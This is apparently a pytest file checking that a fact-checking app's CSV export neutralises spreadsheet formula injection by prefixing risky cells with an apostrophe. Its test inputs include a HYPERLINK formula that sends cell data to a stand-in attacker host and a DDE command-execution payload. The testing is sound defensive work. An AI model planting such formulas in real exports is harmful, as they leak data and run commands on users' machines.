"""CSV exports are safe against formula injection (OWASP "CSV Injection")."""

import csv
import io

import pytest

from factcheck.csv_export import COLUMNS, claims_csv_lines, claims_csv_write, csv_cell_safe
from tests.factories import ArticleFactory, ClaimFactory


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("The council voted = yes", "The council voted = yes"),  # only the first character matters
        ("", ""),
        (None, ""),
        (42, 42),  # our own numbers stay numbers
        (-0.5, -0.5),
        (True, "true"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_get_an_apostrophe(value, expected):
    assert csv_cell_safe(value) == expected


@pytest.mark.django_db
def test_export_rows_round_trip_and_neutralise_every_text_column():
    article = ArticleFactory(
        body="=cmd|' /C calc'!A0 said the council.", external_id="@ext", url="https://a.example/=x"
    )
    ClaimFactory(article=article, start=0, end=len(article.body), speaker="+Speaker", exact=article.body)
    out = io.StringIO()
    assert claims_csv_write(claims=article.claims.all(), out=out) == 1
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == COLUMNS and len(rows) == 2
    row = dict(zip(COLUMNS, rows[1]))
    assert row["exact"] == "'=cmd|' /C calc'!A0 said the council."
    assert row["article_external_id"] == "'@ext" and row["speaker"] == "'+Speaker"
    assert row["article_url"] == "https://a.example/=x"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
    assert "".join(claims_csv_lines(claims=article.claims.all())) == out.getvalue()
